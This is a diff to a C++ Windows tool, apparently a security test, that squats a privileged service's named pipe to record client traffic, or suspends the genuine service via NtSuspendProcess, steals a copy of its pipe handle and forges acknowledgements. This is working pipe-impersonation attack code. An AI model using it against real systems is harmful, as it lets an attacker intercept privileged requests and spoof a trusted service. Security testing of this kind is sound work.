@@ -1,11 +1,10 @@
-// pipe_squatter RECORD [behind]: takes the ElevatedTasks pipe name first and
-// appends every byte a client sends to RECORD. "behind": instead starts the
-// genuine qlfvxET.exe beside it with its own id, suspends it once its pipe
-// exists and serves a copy of its pipe end (whose server id still names that
-// child), forging each acknowledgement. RECORD is created once it serves.
+// pipe_squatter RECORD [behind]: takes the ElevatedTasks pipe name first and appends every byte
+// a client sends to RECORD. "behind": instead starts the genuine qlfvxET.exe beside it with its
+// own id, suspends it once its pipe exists and serves a copy of its pipe end (whose server id
+// still names that child), forging each acknowledgement. RECORD is created once it serves.
 
 #include <windows.h>
-#include <tlhelp32.h>
+#include <winternl.h>
 
 #include <string>
 
@@ -27,15 +26,9 @@ static HANDLE StealFromGenuine(DWORD ownId) {
   for (int tries = 0; !::WaitNamedPipeW(kPipe, 1) && ::GetLastError() != ERROR_SEM_TIMEOUT;
        ::Sleep(20))
     if (++tries == 500) return INVALID_HANDLE_VALUE;
-  fw::unique_hfile threads(::CreateToolhelp32Snapshot(TH32CS_SNAPTHREAD, 0));
-  THREADENTRY32 thread = {};
-  thread.dwSize = sizeof(thread);
-  for (BOOL more = ::Thread32First(threads.get(), &thread); more;
-       more = ::Thread32Next(threads.get(), &thread)) {
-    if (thread.th32OwnerProcessID != info.dwProcessId) continue;
-    fw::unique_handle suspend(::OpenThread(THREAD_SUSPEND_RESUME, FALSE, thread.th32ThreadID));
-    ::SuspendThread(suspend.get());
-  }
+  using Suspend = NTSTATUS(NTAPI*)(HANDLE);
+  reinterpret_cast<Suspend>(reinterpret_cast<void*>(
+      ::GetProcAddress(::GetModuleHandleW(L"ntdll.dll"), "NtSuspendProcess")))(genuine.get());
   for (ULONG_PTR value = 4; value < 0x10000; value += 4) {
     HANDLE copy = nullptr;
     DWORD flags = 0;
@@ -45,6 +38,7 @@ static HANDLE StealFromGenuine(DWORD ownId) {
       return copy;
     if (copy) ::CloseHandle(copy);
   }
+  ::TerminateProcess(genuine.get(), 1);  // suspended, it would not see its launcher end
   return INVALID_HANDLE_VALUE;
 }
 
